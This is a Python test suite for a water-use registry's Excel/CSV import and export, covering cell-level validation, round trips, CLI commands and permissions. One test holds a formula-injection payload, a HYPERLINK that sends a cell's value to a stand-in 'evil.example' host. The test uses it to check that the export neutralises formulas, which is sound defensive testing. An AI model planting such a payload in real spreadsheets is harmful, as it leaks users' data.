"""Import and export of the bureau's spreadsheets: all or nothing, cells named, round trips."""
from __future__ import annotations

import csv
from datetime import date

from openpyxl import Workbook, load_workbook
from sqlalchemy import func, select

from registry.extensions import db
from registry.models import AuditEvent, IntakePoint, Meter, Reading, WaterUser
from registry.services import exchange
from tests import factories as f
from tests.conftest import english

READING_HEADER = ["档案号", "表号", "月份", "取水量(m³)", "表底数", "来源"]


def _xlsx(path, sheets: dict):
    book = Workbook(write_only=True)
    for title, rows in sheets.items():
        ws = book.create_sheet(title)
        for row in rows:
            ws.append(row)
    book.save(path)
    return path


def _count(model) -> int:
    return db.session.execute(select(func.count()).select_from(model)).scalar_one()


def _months(n: int):
    """n distinct past months, newest first (2025-12 backwards)."""
    y, m = 2025, 12
    for _ in range(n):
        yield f"{y:04d}-{m:02d}"
        y, m = (y, m - 1) if m > 1 else (y - 1, 12)


def _meters(count: int):
    wu = f.WaterUserFactory(file_no="YW-2020-0001")
    point = f.IntakePointFactory(water_user=wu, name="1号取水口")
    return wu, [f.MeterFactory(intake_point=point, water_user=wu, serial=f"SN-{i:03d}", installed_on=date(1990, 1, 5))
                for i in range(count)]


def test_ten_thousand_readings_with_one_bad_cell_write_nothing_and_name_the_cell(app, tmp_path):
    wu, meters = _meters(25)
    months = list(_months(400))
    rows = [[wu.file_no, meters[i % 25].serial, months[i // 25], 1000 + i, None, "人工抄表"] for i in range(10_000)]
    rows[4321][3] = -5  # row 4323 of the sheet (title in row 1), column D
    path = _xlsx(tmp_path / "readings.xlsx", {"月取水量": [READING_HEADER, *rows]})

    report = exchange.run(db.session, f.admin(), path, "xlsx", apply=True)

    assert not report.applied and _count(Reading) == 0
    assert len(report.errors) == 1
    error = report.errors[0]
    assert (error.sheet, error.row, error.column, error.title) == ("月取水量", 4323, "D", "取水量(m³)")
    assert "第 4323 行 D 列（取水量(m³)）" in error.text() and "不能为负" in error.text()

    rows[4321][3] = 5
    path = _xlsx(tmp_path / "fixed.xlsx", {"月取水量": [READING_HEADER, *rows]})
    report = exchange.run(db.session, f.admin(), path, "xlsx", apply=True)
    assert report.applied and report.counts["readings"].created == 10_000 and _count(Reading) == 10_000
    assert db.session.scalar(select(AuditEvent.summary).where(AuditEvent.entity_type == "Reading")) \
        == "readings via import: 10000"


def test_a_bad_uscc_is_reported_by_row_column_and_rule_and_nothing_is_created(app, tmp_path):
    header = ["档案号", "单位名称", "统一社会信用代码", "镇街代码", "行业代码", "建档日期"]
    path = _xlsx(tmp_path / "users.xlsx", {"取水户": [
        header, ["YW-2026-0001", "义乌市甲印染有限公司", "91330100716105852F", "001", "1713", "2021-03-15"],
        ["YW-2026-0002", "义乌市乙印染有限公司", "91330100716105853F", "001", "1713", "2021-03-15"]]})

    report = exchange.run(db.session, f.admin(), path, "xlsx", apply=True)

    assert _count(WaterUser) == 0 and not report.applied
    assert [(e.row, e.column, e.title) for e in report.errors] == [(3, "C", "统一社会信用代码")]
    assert "check character" in english(report.errors[0].message)


def test_export_then_import_changes_nothing(app, tmp_path):
    wu, meters = _meters(2)
    f.ReadingFactory(meter=meters[0], water_user_id=wu.id, period=date(2025, 11, 1), volume_m3=1234.5, meter_index=88.25)
    f.WaterUserFactory(file_no="YW-2020-0002", notes="第一行\n第二行", email="a@example.cn")
    for fmt in ("xlsx", "csv"):
        path = tmp_path / f"all.{fmt}"
        with open(path, "wb") as fh:
            exchange.export(db.session, f.admin(), fh, fmt, kinds=None if fmt == "xlsx" else ["water_users"])
        before = _count(AuditEvent)
        report = exchange.run(db.session, f.admin(), path, fmt, apply=True)
        assert report.ok and report.changes == 0, [e.text() for e in report.errors]
        assert report.counts["water_users"].unchanged == 2
        if fmt == "xlsx":
            assert (report.counts["intake_points"].unchanged, report.counts["meters"].unchanged,
                    report.counts["readings"].unchanged) == (1, 2, 1)
        assert _count(AuditEvent) == before


def test_a_new_file_with_its_intake_point_meter_and_readings_imports_in_one_go(app, tmp_path):
    path = _xlsx(tmp_path / "new.xlsx", {
        # English titles and sheet names are accepted too
        "Water users": [["File number", "Name", "USCC", "Division", "Industry code", "Opened on"],
                        ["YW-2026-0009", "义乌市丙造纸有限公司", "91330100716105852F", "稠城", 2221, date(2021, 3, 15)]],
        "Intake points": [["file_no", "Intake point", "Source", "Longitude", "Latitude"],
                          ["YW-2026-0009", "东井", "Groundwater", 120.1, 29.3]],
        "Meters": [["File number", "Serial", "Type", "Installed on"],
                   ["YW-2026-0009", "SN-NEW-1", "电磁式", "2022-01-10"]],
        "Monthly readings": [["Serial", "Month", "Volume (m3)"], ["SN-NEW-1", "2025-01", 300]],
    })
    dry = exchange.run(db.session, f.admin(), path, "xlsx", apply=False)
    assert dry.ok and not dry.applied and _count(WaterUser) == 0
    assert [(k.name, c.created) for k, c in dry.kinds()] == [
        ("water_users", 1), ("intake_points", 1), ("meters", 1), ("readings", 1)]

    report = exchange.run(db.session, f.admin(), path, "xlsx", apply=True)
    assert report.applied, [e.text() for e in report.errors]
    wu = db.session.scalar(select(WaterUser))
    assert (wu.division_code, wu.industry_code) == ("001", "2221") and wu.grade is not None
    meter = db.session.scalar(select(Meter))
    assert meter.intake_point.name == "东井" and db.session.scalar(select(IntakePoint.source)) == "ground"
    assert db.session.scalar(select(Reading.volume_m3)) == 300


def test_a_changed_phone_number_is_an_update_with_its_audit_event(app, tmp_path):
    wu = f.WaterUserFactory(file_no="YW-2020-0001", contact_phone="13800000000")
    path = tmp_path / "phones.csv"
    with open(path, "w", encoding="gb18030", newline="") as fh:  # Excel on Chinese Windows saves GB 18030
        csv.writer(fh).writerows([["档案号", "联系电话"], [wu.file_no, "0579-85550000"]])

    dry = exchange.run(db.session, f.admin(), path, "csv", apply=False)
    assert dry.counts["water_users"].updated == 1
    db.session.refresh(wu)
    assert wu.contact_phone == "13800000000"

    exchange.run(db.session, f.admin(), path, "csv", apply=True)
    db.session.refresh(wu)
    assert wu.contact_phone == "0579-85550000"
    event = db.session.scalar(select(AuditEvent).where(AuditEvent.action == "update"))
    assert event.changes == {"contact_phone": ["13800000000", "0579-85550000"]} and event.reason == "import"


def test_malformed_files_get_a_clear_message(app, tmp_path):
    cases = {
        "not.xlsx": b"this is not a zip",
        "empty.csv": b"",
        "wrong.csv": "名字,年龄\n张三,3\n".encode(),
        "binary.csv": b"PK\x03\x04\x00\x00",
    }
    for name, content in cases.items():
        path = tmp_path / name
        path.write_bytes(content)
        report = exchange.run(db.session, f.admin(), path, name.rsplit(".", 1)[1], apply=True)
        assert not report.ok and report.errors[0].row is None, name
        assert english(report.errors[0].message), name


def test_unknown_and_missing_columns_are_named(app, tmp_path):
    path = tmp_path / "meters.csv"
    path.write_text("档案号,类型,颜色\nYW-1,电磁式,红\n", encoding="utf-8-sig")
    report = exchange.run(db.session, f.admin(), path, "csv", apply=True)
    assert not report.ok


def test_template_lists_every_column_with_its_rule(app, tmp_path):
    path = tmp_path / "template.xlsx"
    with open(path, "wb") as fh:
        exchange.template(fh)
    book = load_workbook(path, read_only=True)
    assert book.sheetnames == ["取水户", "取水口", "计量设施", "月取水量", "说明"]
    notes = list(book["说明"].iter_rows(values_only=True))
    assert ("取水户", "统一社会信用代码", "USCC") == notes[3][:3] and "GB 32100" in notes[3][3]
    # The example rows are valid: the template imports as it is
    report = exchange.run(db.session, f.admin(), path, "xlsx", apply=True)
    assert report.applied, [e.text() for e in report.errors]


def test_inspectors_cannot_import(app, tmp_path):
    import pytest

    from registry.services.errors import Forbidden

    with pytest.raises(Forbidden):
        exchange.run(db.session, f.inspector(), tmp_path / "x.csv", "csv", apply=False)


def test_import_command_dry_run_then_import_with_counts_and_rate(app, tmp_path):
    wu, meters = _meters(1)
    path = tmp_path / "readings.csv"
    path.write_text("表号,月份,取水量(m³)\nSN-000,2025-01,10\nSN-000,2025-02,20\n", encoding="utf-8-sig")
    runner = app.test_cli_runner()

    dry = runner.invoke(args=["registry", "import", str(path), "--dry-run"])
    assert dry.exit_code == 0, dry.output
    assert "readings: 2 to create, 0 to update, 0 unchanged" in dry.output and "rows/s" in dry.output
    assert _count(Reading) == 0

    done = runner.invoke(args=["registry", "import", str(path)])
    assert done.exit_code == 0 and "readings: 2 created" in done.output and _count(Reading) == 2

    path.write_text("表号,月份,取水量(m³)\nSN-000,2099-01,10\n", encoding="utf-8-sig")
    failed = runner.invoke(args=["registry", "import", str(path)])
    assert failed.exit_code == 1 and "第 2 行 B 列（月份）" in failed.output and "nothing was changed" in failed.output


def test_export_command_writes_what_import_reads(app, tmp_path):
    _meters(2)
    runner = app.test_cli_runner()
    out = tmp_path / "meters.csv"
    result = runner.invoke(args=["registry", "export", str(out), "--kind", "meters"])
    assert result.exit_code == 0 and "exported 2 rows" in result.output
    assert out.read_bytes().startswith("\ufeff档案号,表号".encode())
    assert "meters: 0 to create, 0 to update, 2 unchanged" in runner.invoke(
        args=["registry", "import", str(out), "--dry-run"]).output


def test_a_sheet_without_file_numbers_is_matched_on_the_uscc(app, tmp_path):
    wu = f.WaterUserFactory(contact_name="李海燕")
    path = tmp_path / "contacts.csv"
    path.write_text(f"统一社会信用代码,联系人\n{wu.uscc.lower()},张伟\n", encoding="utf-8")
    report = exchange.run(db.session, f.admin(), path, "csv", apply=True)
    assert report.applied and report.counts["water_users"].updated == 1
    db.session.refresh(wu)
    assert wu.contact_name == "张伟"


EVIL = '=HYPERLINK("http://evil.example/?x="&A2,"click")'


def test_item8_formulas_in_text_are_exported_as_text_and_reimport_changes_nothing(app, tmp_path):
    import zipfile

    wu, meters = _meters(1)
    f.ReadingFactory(meter=meters[0], water_user_id=wu.id, period=date(2025, 11, 1), volume_m3=1234.5)
    texts = {"notes": EVIL, "contact_phone": "+86 579 8555 1234", "address": "-稠城街道", "legal_representative": "@王建国",
             "contact_name": "'=李海燕"}  # already quoted: the reader takes off exactly one quote
    f.WaterUserFactory(file_no="YW-2020-0002", **texts)
    for fmt in ("xlsx", "csv"):
        path = tmp_path / f"all.{fmt}"
        with open(path, "wb") as fh:
            exchange.export(db.session, f.admin(), fh, fmt, kinds=None if fmt == "xlsx" else ["water_users"])
        if fmt == "xlsx":
            with zipfile.ZipFile(path) as archive:
                sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
                assert not any(b"<f>" in archive.read(n) or b"<f " in archive.read(n) for n in sheets)
            book = load_workbook(path)
            cells = {c.value: c for row in book.worksheets[0].iter_rows() for c in row}
            assert cells[EVIL].data_type == "s"
            assert all(c.data_type == "n" for row in book["取水口"].iter_rows(min_row=2) for c in row[4:6])
        else:
            with open(path, encoding="utf-8-sig", newline="") as fh:
                row = next(r for r in csv.reader(fh) if "YW-2020-0002" in r)
            assert "'" + EVIL in row and "'+86 579 8555 1234" in row and "'-稠城街道" in row and "'@王建国" in row
            assert "''=李海燕" in row
        before = _count(AuditEvent)
        report = exchange.run(db.session, f.admin(), path, fmt, apply=True)
        assert report.ok and report.changes == 0, [e.text() for e in report.errors]
        assert _count(AuditEvent) == before
        stored = db.session.execute(select(WaterUser).where(WaterUser.file_no == "YW-2020-0002")).scalar_one()
        assert {k: getattr(stored, k) for k in texts} == texts


def test_item2_absurd_volumes_in_an_import_are_refused_naming_the_cell(app, tmp_path):
    wu, meters = _meters(1)
    rows = [[wu.file_no, meters[0].serial, month, volume, None, "人工抄表"]
            for month, volume in zip(_months(3), (1.7e308, "1" * 400, "9" * 5000))]
    path = tmp_path / "readings.csv"
    with open(path, "w", encoding="utf-8-sig", newline="") as fh:
        csv.writer(fh).writerows([READING_HEADER, *rows])

    report = exchange.run(db.session, f.admin(), path, "csv", apply=True)

    assert not report.applied and _count(Reading) == 0
    assert [(e.row, e.column) for e in report.errors] == [(2, "D"), (3, "D"), (4, "D")]
    assert all("不能超过 100,000,000 m³" in e.text() for e in report.errors), [e.text() for e in report.errors]
